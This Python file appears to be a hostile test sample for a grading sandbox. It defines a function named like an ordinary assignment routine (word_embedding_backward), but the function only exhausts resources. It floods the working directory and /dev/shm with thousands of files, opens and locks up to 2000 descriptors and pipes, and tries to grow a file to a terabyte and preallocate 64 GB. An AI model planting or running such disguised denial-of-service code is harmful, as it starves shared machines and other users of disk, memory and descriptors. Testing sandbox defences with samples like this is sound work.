"""Hope: files, folders, locks and descriptors without end stay behind, or leave none for others."""

import fcntl
import os

from a3 import kit

GOAL = "exhaust"
ROUTE = "files"
SCORE = 25
HELD = []


def word_embedding_backward(dout, cache):
    """Make as many as can be made, and one that is too large."""
    for place in (".", "/dev/shm"):
        for number in range(3000):
            try:
                with open(f"{place}/hostile-{number}", "w") as file:
                    file.write("x")
            except OSError:
                break
    for _ in range(2000):
        try:
            HELD.append(os.open("hostile-1", os.O_RDWR | os.O_CREAT))
            fcntl.flock(HELD[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
            HELD.extend(os.pipe())
        except OSError:
            break
    kit.attempt(lambda: os.ftruncate(HELD[0], 1 << 40))
    kit.attempt(lambda: os.posix_fallocate(HELD[0], 0, 1 << 36))
    kit.spill()
